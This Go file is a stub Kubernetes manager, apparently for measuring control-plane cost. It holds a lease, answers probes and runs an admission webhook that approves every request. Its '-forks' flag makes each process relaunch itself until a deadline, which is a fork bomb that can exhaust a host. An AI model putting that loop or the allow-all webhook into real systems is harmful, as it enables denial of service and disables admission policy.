// SPDX-License-Identifier: Apache-2.0

// Command manager is a provider's controller as far as it costs the plane that runs
// it: it holds a lease, answers probes and is a webhook that lets everything pass.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/leaderelection"
	"k8s.io/client-go/tools/leaderelection/resourcelock"
)

// The default leader election settings of managers.
const (
	leaseDuration = 15 * time.Second
	renewDeadline = 10 * time.Second
	retryPeriod   = 2 * time.Second
)

func main() {
	lease := flag.String("lease", "", "namespace of the lease to hold; none if it is empty")
	probes := flag.String("probes", "", "address to answer probes on; none if it is empty")
	hooks := flag.String("webhook", ":9443", "address of the webhook")
	certs := flag.String("certs", "/certs", "folder of its certificate")
	forks := flag.Int64("forks", 0, "seconds since 1970 until which it only starts processes that do the same")
	flag.Parse()
	for time.Now().Unix() < *forks {
		if exec.Command("/proc/self/exe", os.Args[1:]...).Start() != nil {
			time.Sleep(time.Millisecond)
		}
	}
	fmt.Fprintln(os.Stderr, "manager:", run(*lease, *probes, *hooks, *certs))
	os.Exit(1)
}

// run serves until an error occurs. The address of the webhook is the first line
// that is printed.
func run(lease, probes, hooks, certs string) error {
	l, err := net.Listen("tcp", hooks)
	if err != nil {
		return err
	}
	fmt.Println(l.Addr())
	ended := make(chan error, 3)
	go func() {
		hook := &http.Server{Handler: http.HandlerFunc(allow), ReadHeaderTimeout: renewDeadline}
		ended <- hook.ServeTLS(l, filepath.Join(certs, "tls.crt"), filepath.Join(certs, "tls.key"))
	}()
	if probes != "" {
		well := &http.Server{Addr: probes, Handler: http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}), ReadHeaderTimeout: renewDeadline}
		go func() { ended <- well.ListenAndServe() }()
	}
	if lease != "" {
		go func() { ended <- lead(lease) }()
	}
	return <-ended
}

// lead holds the lease until it is lost.
func lead(namespace string) error {
	config, err := rest.InClusterConfig()
	if err != nil {
		return err
	}
	typed, err := kubernetes.NewForConfig(config)
	if err != nil {
		return err
	}
	name, err := os.Hostname()
	if err != nil {
		return err
	}
	lock := &resourcelock.LeaseLock{
		LeaseMeta: metav1.ObjectMeta{Namespace: namespace, Name: "manager"}, Client: typed.CoordinationV1(),
		LockConfig: resourcelock.ResourceLockConfig{Identity: name},
	}
	leaderelection.RunOrDie(context.Background(), leaderelection.LeaderElectionConfig{
		Lock: lock, LeaseDuration: leaseDuration, RenewDeadline: renewDeadline, RetryPeriod: retryPeriod,
		Callbacks: leaderelection.LeaderCallbacks{OnStartedLeading: func(context.Context) {}, OnStoppedLeading: func() {}},
	})
	return errors.New("the lease is lost")
}

// allow answers a review.
func allow(w http.ResponseWriter, r *http.Request) {
	var asked struct {
		Request struct{ UID string } `json:"request"`
	}
	if err := json.NewDecoder(r.Body).Decode(&asked); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	answer := map[string]any{
		"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
		"response": map[string]any{"uid": asked.Request.UID, "allowed": true},
	}
	_ = json.NewEncoder(w).Encode(answer) // the client may have disconnected
}
